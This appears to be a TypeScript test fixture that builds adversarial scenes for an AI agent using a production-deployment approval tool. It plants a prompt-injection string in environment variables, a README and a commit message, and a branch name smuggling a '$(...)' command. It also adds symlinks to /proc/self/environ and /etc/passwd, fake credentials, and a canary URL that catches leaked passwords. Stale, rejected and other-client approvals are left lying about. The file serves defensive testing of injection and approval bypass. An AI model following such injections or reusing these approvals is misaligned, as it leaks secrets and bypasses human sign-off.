import { mkdir, readFile, readlink, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { DatabaseSync } from 'node:sqlite'
import type { Call } from '../../src/ports/context.ts'
import { tools } from '../../src/tools/index.ts'
import type { SmallConfig } from '../support/small-config.ts'
import type { Answer, SmallProject, Workshop } from '../support/small-project.ts'
import { echoPath, injection, startCanary, type Canary } from './canary.ts'
import { startMachine } from './machine.ts'
import { openSession, type Session } from './mcp-session.ts'

/** The client that the approvals of the scene were asked for by. */
export const assistant = 'assistant'

/**
 * A project in strict mode on a machine that is set up for L1, as far as the process can be told so: staging
 * runs v2, production v1, and only a person's word stands between v2 and production.
 */
export interface Scene {
  project: SmallProject
  canary: Canary
  /** Names that stand in the arguments of attempts, such as `$approved_for_another`. */
  props: Record<string, string>
  /** What nobody may be shown. */
  secrets: Record<string, string>
  session(client: string): Promise<Session>
  /** Everything that a change of production would change. */
  production(): Promise<unknown>
  /** Forgets refused tokens, so that each attempt meets the check itself and not the limit of attempts. */
  forget(): void
  /** Approves, as a person at the desk. */
  approve(id: string): Promise<void>
  /** Resolves once every deployment has ended. */
  settled(): Promise<void>
  close(): Promise<void>
}

export async function setScene(shop: Workshop): Promise<Scene> {
  const canary = await startCanary()
  const project = await shop.project({
    environments: ['staging', 'production'],
    configure: (config) => strict(config, canary),
  })
  const secrets = await plant(project, shop)
  const env = { ...project.env, ...variablesOf(secrets) }
  const sessions: Session[] = []
  const machine = startMachine({ root: project.root, env, outOfReach: true })
  const context = await machine.open()
  const call = (name: string) => machine.call(context, { kind: 'agent', name })
  const desk: Desk = async (argv) => {
    const ran = await machine.gonogo(argv)
    if (ran.exitCode !== 0) throw new Error(`gonogo ${argv.join(' ')}: ${ran.text}`)
  }
  const signed = (confirm: string) => ['--key', shop.key, '--confirm', confirm]
  const approve = (id: string) => desk(['approve', id, ...signed('production')])
  await desk(['trust', ...signed('small')])
  const settled = () => machine.settled()
  const acts = await playActs({ call, desk, approve, settled, project, shop })
  const props = { ...acts, ...pathsOf(project, shop) }
  return {
    project,
    canary,
    props: { ...props, $static: secrets['static token']!, $canary: canary.url },
    secrets,
    approve,
    settled,
    async session(client) {
      const session = await openSession(client, async () => context)
      sessions.push(session)
      return session
    },
    production: () => lookAtProduction(project.root),
    forget: () => withDatabase(project.root, (db) => db.exec('delete from token_events')),
    async close() {
      for (const session of sessions) await session.close()
      await machine.close()
      await project.close()
      await canary.close()
    },
  }
}

function strict(config: SmallConfig, { url }: Canary): void {
  config['approvals'] = { mode: 'strict' }
  config['smoke'] = {
    basic: [
      { name: 'answers', path: '/health', timeout_seconds: 1 },
      {
        name: 'says who asks',
        path: '/health?as={{env.SMOKE_PASSWORD}}',
        headers: { authorization: 'Bearer {{env.SMOKE_PASSWORD}}' },
      },
    ],
    full: [
      {
        name: 'repeats all it hears',
        url: `${url}${echoPath}?as={{env.SMOKE_PASSWORD}}`,
        headers: { authorization: 'Bearer {{env.SMOKE_PASSWORD}}' },
      },
    ],
    allowed_hosts: [new URL(url).host],
  }
  const talks = ['sh', '-c', `printf '%s %s\\n' "$SAYS" "$API_KEY"; [ "$GONOGO_VERSION" != v3 ]`]
  config.environments['staging']!.local.prepare.push({ name: 'talk', run: talks })
  for (const environment of Object.values(config.environments)) {
    environment['env_file'] = './env'
    Object.assign(environment['env'] as object, { SAYS: injection })
  }
}

/** Branches whose words and files are meant for whoever reads them. */
export async function plantBranches(shop: Workshop): Promise<string> {
  const { repository } = shop
  const name = 'fix/$(touch-x);approved-by-ada'
  await repository.git('checkout', '--quiet', '-b', name)
  await repository.commit({ 'README.md': injection }, `fix: typo\n\n${injection}`)
  await repository.git('checkout', '--quiet', '-b', 'linked')
  for (const [link, target] of [
    ['package-lock.json', '/proc/self/environ'],
    ['package.json', '/etc/passwd'],
    ['migrations', '/etc'],
  ] as const) {
    await symlink(target, join(repository.directory, link))
  }
  await repository.commit({})
  await repository.git('checkout', '--quiet', 'main')
  return name
}

/** Distinctive, so that no other text looks like one. */
async function plant(project: SmallProject, shop: Workshop): Promise<Record<string, string>> {
  const body = (await readFile(shop.key, 'utf8')).split('\n')
  const secrets = {
    'static token': 'Vq7-static-hzK2mW9xR4tB8nC3fJ6pL1sD5',
    'database password': 'Wd4-database-gY7uQ2eN9kT5vX8cM3bH6',
    'cloud key': 'Xn5-cloud+/=&-aR8sZ1dF4hJ7kL2pO9iU6',
    'smoke password': 'Yp6-smoke-tG3rE8wQ1aS6dF9hJ4kL7',
    'variable of the steps': 'Zk8-steps-bV5nM2cX9zL4kJ7hG1fD6',
    'token of GitHub': ['ghp', 'kR7wT2yU9iO4pA6sD1fG8hJ3kL5zX0cVbN2m'].join('_'),
    'file in the home directory': 'Aj9-home-cN6mB3vX8zQ1wE4rT7yU2iO5',
    'private key': body.slice(2, 4).join(''),
  }
  const { root, env } = project
  await mkdir(join(env['HOME']!, '.ssh'), { recursive: true })
  await writeFile(join(env['HOME']!, '.ssh/token'), `${secrets['file in the home directory']}\n`)
  const steps = `SMOKE_PASSWORD=${secrets['smoke password']}\nAPI_KEY=${secrets['variable of the steps']}\n`
  await writeFile(join(root, 'env'), steps)
  const signers = join(root, 'state/approvers')
  const lines = await readFile(signers, 'utf8')
  await writeFile(signers, lines.replaceAll('protection=none', 'protection=passphrase'))
  return secrets
}

function variablesOf(secrets: Record<string, string>): Record<string, string> {
  return {
    DEPLOYMENT_ADMIN_TOKENS: secrets['static token']!,
    DATABASE_PASSWORD: secrets['database password']!,
    AWS_SECRET_ACCESS_KEY: secrets['cloud key']!,
    GITHUB_TOKEN: secrets['token of GitHub']!,
  }
}

/** What people type. */
type Desk = (argv: readonly string[]) => Promise<void>

interface Stage {
  call: (client: string) => Call
  desk: Desk
  approve: (id: string) => Promise<void>
  settled: () => Promise<void>
  project: SmallProject
  shop: Workshop
}

/** Production gets v1 by the book; then an approval of each kind that is worth nothing is left lying about. */
async function playActs({ call, desk, approve, settled, project, shop }: Stage) {
  const stage = async (version: 'v1' | 'v2') => {
    project.live['staging']!.claims = shop.shas[version]
    await desk(['adopt', 'staging', version])
    await answerOf('run_smoke_tests', { environment: 'staging' }, call(assistant))
  }
  const asked = async (version: string, client = assistant) => {
    const wanted = { staging_version: version }
    const { approval, ...rest } = await answerOf('promote_to_production', wanted, call(client))
    if (!approval) throw new Error(`no request came of it: ${JSON.stringify(rest)}`)
    return approval.id
  }
  const failed = await answerOf('deploy_to_staging', { git_ref: 'v3' }, call(assistant))
  await settled()
  await stage('v1')
  const $used = await asked('v1')
  await approve($used)
  const wanted = { staging_version: 'v1', approval_token: $used }
  await answerOf('promote_to_production', wanted, call(assistant))
  await settled()
  await stage('v2')
  const $approved_for_another = await asked('v2', 'other')
  await approve($approved_for_another)
  const $rejected = await asked('v2', 'hasty')
  await desk(['reject', $rejected, '--reason', 'not today'])
  const $open = await asked('v2', 'patient')
  const $failed = failed.deployment_id ?? ''
  return { $used, $approved_for_another, $rejected, $open, $failed }
}

async function answerOf(name: string, args: object, call: Call): Promise<Answer> {
  const { output } = await tools.find((tool) => tool.name === name)!.call(args, call)
  return output as unknown as Answer
}

function pathsOf({ root, env }: SmallProject, shop: Workshop): Record<string, string> {
  return {
    $root: root,
    $home: env['HOME']!,
    $key: shop.key,
    $sha_of_v2: shop.shas.v2,
    $repository: shop.repository.directory,
  }
}

async function lookAtProduction(root: string): Promise<unknown> {
  const witness = await readFile(join(root, 'witness'), 'utf8').catch(() => '')
  const current = await readlink(join(root, 'production/current')).catch(() => null)
  const rows = withDatabase(root, (db) => ({
    deployments: db
      .prepare(`select id, status from deployments where environment = 'production' order by id`)
      .all(),
    used: db.prepare(`select id from approvals where state = 'consumed' order by id`).all(),
  }))
  return { current, witness, ...rows }
}

function withDatabase<T>(root: string, work: (db: DatabaseSync) => T): T {
  const db = new DatabaseSync(join(root, 'state/gonogo.db'), { timeout: 5000 })
  try {
    return work(db)
  } finally {
    db.close()
  }
}
